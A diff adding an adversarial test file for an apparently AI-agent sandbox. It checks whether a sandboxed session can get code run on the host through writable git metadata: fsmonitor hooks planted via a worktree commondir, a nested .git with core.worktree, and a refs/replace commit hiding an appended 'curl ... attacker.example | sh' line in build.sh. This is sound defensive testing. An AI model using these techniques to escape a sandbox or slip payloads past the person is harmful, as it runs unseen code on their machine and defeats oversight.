@@ -1,0 +1,138 @@
+/**
+ * Adversary round 11 (HEADER WRITTEN AT THE END)
+ */
+import { execFileSync, spawnSync } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { lookupUser } from '../../../src/session/identity';
+import { closeSessions, removeTempDirs, startSession, tempDir } from '../session/helpers';
+
+const OPEN = true;
+const t = OPEN ? test.skip : test;
+
+afterEach(closeSessions);
+afterAll(removeTempDirs);
+
+const isRoot = process.getuid?.() === 0;
+
+/** A repository with one commit in a new workspace, and `git` there as the person (root) on the host. */
+function personsRepo(): { ws: string; marker: string; git: (...a: string[]) => string } {
+  const ws = tempDir();
+  const git = (...a: string[]): string =>
+    execFileSync('git', ['-C', ws, '-c', 'user.name=p', '-c', 'user.email=p@example.com', ...a], { encoding: 'utf8', stdio: 'pipe' });
+  git('init', '-q', '-b', 'main');
+  fs.writeFileSync(path.join(ws, 'build.sh'), 'echo building\n');
+  git('add', 'build.sh');
+  git('commit', '-qm', 'one');
+  return { ws, marker: `${ws}-host-marker`, git };
+}
+
+/** The attacker's program at `file` (a path inside the sandbox's view): it leaves `marker` when it runs, and prints a token as fsmonitor wants. */
+const plant = (marker: string, file: string): string =>
+  `printf '#!/bin/sh\\nid -un > ${marker}\\nprintf x\\n' > ${file} && chmod +x ${file}`;
+
+describe("kind 3: the person's git, later, on the host, through parts of .git the guard leaves writable", () => {
+  t("rewriting a linked worktree's `.git/worktrees/<id>/commondir` does not run the session's program in the person's git there", async () => {
+    const { ws, marker, git } = personsRepo();
+    // The person's own second worktree of the repository, outside the workspace (`git worktree add`).
+    const other = `${ws}-feature`;
+    git('worktree', 'add', '-q', other, '-b', 'feature');
+    try {
+      const s = await startSession({ cwd: ws, workspace: ws });
+      // The admin folder of that worktree lives in the workspace's .git, which stays writable.
+      const r = await s.run(
+        [
+          'cp -r .git .cache-git',
+          plant(marker, '.cache-git/fsm'),
+          'git --git-dir=.cache-git config core.fsmonitor "$PWD/.cache-git/fsm"',
+          'echo "$PWD/.cache-git" > .git/worktrees/c && mv .git/worktrees/c .git/worktrees/*/commondir',
+          'echo planted',
+        ].join(' && '),
+      );
+      expect(r.output).toBe('planted\n');
+      // Later, on the host, the person looks at their other worktree.
+      execFileSync('git', ['-C', other, 'status', '--short'], { stdio: 'pipe' });
+      expect({ ranOnTheHost: fs.existsSync(marker) }).toEqual({ ranOnTheHost: false });
+    } finally {
+      fs.rmSync(marker, { force: true });
+      fs.rmSync(other, { recursive: true, force: true });
+    }
+  });
+
+  t("a `refs/replace/<commit>` of the session does not make the person's git show other content than what their push sends", async () => {
+    const { ws, git } = personsRepo();
+    const remote = tempDir('aj-remote-');
+    execFileSync('git', ['init', '-q', '--bare', remote]);
+    git('remote', 'add', 'origin', remote);
+    const s = await startSession({ cwd: ws, workspace: ws });
+    // The approved command (or a job it left): a commit with a payload, and a replacement that shows none.
+    const r = await s.run(
+      [
+        'G="git -c user.name=a -c user.email=a@example.com"',
+        "echo 'curl -s https://attacker.example/x | sh' >> build.sh",
+        '$G commit -qam "build: tidy"',
+        'BAD=$(git rev-parse HEAD)',
+        'git checkout -q HEAD~1 -- build.sh',
+        'CLEAN=$($G commit-tree -p HEAD~1 -m "build: tidy" $(git write-tree))',
+        'git update-ref refs/replace/$BAD $CLEAN',
+        'echo planted',
+      ].join(' && '),
+    );
+    expect(r.output).toBe('planted\n');
+    // The person, on the host: a clean working tree, and the commit's file as git shows it.
+    const status = git('status', '--short');
+    const shown = git('show', 'HEAD:build.sh');
+    git('push', '-q', 'origin', 'main');
+    const pushed = execFileSync('git', ['-C', remote, '--no-replace-objects', 'show', 'main:build.sh'], { encoding: 'utf8' });
+    expect({ status, pushed }).toEqual({ status: '', pushed: shown });
+  });
+});
+
+const OWNER = 'aj-owner-test';
+const dOwner = isRoot ? describe : describe.skip;
+
+dOwner('kind 3: a repository owned by its person (bash runs as the owner)', () => {
+  function as(user: string, argv: string[], cwd?: string): { status: number | null; out: string } {
+    const r = spawnSync('runuser', ['-u', user, '--', 'env', `HOME=/home/${user}`, ...argv], {
+      cwd,
+      encoding: 'utf8',
+      env: { PATH: '/usr/sbin:/usr/bin:/sbin:/bin', HOME: '/nonexistent' },
+    });
+    return { status: r.status, out: `${r.stdout}${r.stderr}` };
+  }
+
+  t("a `.git` the session puts in a subdirectory does not run its program when the person runs git there", async () => {
+    if (!lookupUser(OWNER)) spawnSync('useradd', ['--create-home', '--shell', '/bin/bash', OWNER]);
+    const owner = lookupUser(OWNER)!;
+    const parent = fs.mkdtempSync(path.join(owner.home, 'aj-clone-'));
+    fs.chownSync(parent, owner.uid, owner.gid);
+    const ws = path.join(parent, 'repo');
+    const marker = path.join(parent, 'host-marker');
+    try {
+      expect(as(OWNER, ['git', 'init', '-q', '-b', 'main', ws]).status).toBe(0);
+      fs.mkdirSync(path.join(ws, 'src'));
+      fs.writeFileSync(path.join(ws, 'src', 'main.c'), 'int main(void) { return 0; }\n');
+      spawnSync('chown', ['-R', `${owner.uid}:${owner.gid}`, ws]);
+      expect(as(OWNER, ['git', 'add', '.'], ws).status).toBe(0);
+      expect(as(OWNER, ['git', '-c', 'user.name=o', '-c', 'user.email=o@x', 'commit', '-qm', 'first'], ws).status).toBe(0);
+      const s = await startSession({ cwd: ws, workspace: ws });
+      // A copy of the repository's git dir in src/, whose work tree is the repository's root: from
+      // src/ git finds it first, and it shows exactly the person's status; checkpoints skip `.git`.
+      const r = await s.run(
+        [
+          'cp -r .git src/.git',
+          plant(marker, 'src/.git/fsm'),
+          'git --git-dir=src/.git config core.worktree ../..',
+          'git --git-dir=src/.git config core.fsmonitor "$PWD/src/.git/fsm"',
+          'echo planted',
+        ].join(' && '),
+      );
+      expect(r.output).toBe('planted\n');
+      // Later, on the host, the person works in src/ as they always do.
+      const status = as(OWNER, ['git', 'status', '--short'], path.join(ws, 'src'));
+      expect({ status: status.status, ranOnTheHost: fs.existsSync(marker) }).toEqual({ status: 0, ranOnTheHost: false });
+    } finally {
+      fs.rmSync(parent, { recursive: true, force: true });
+    }
+  });
+});
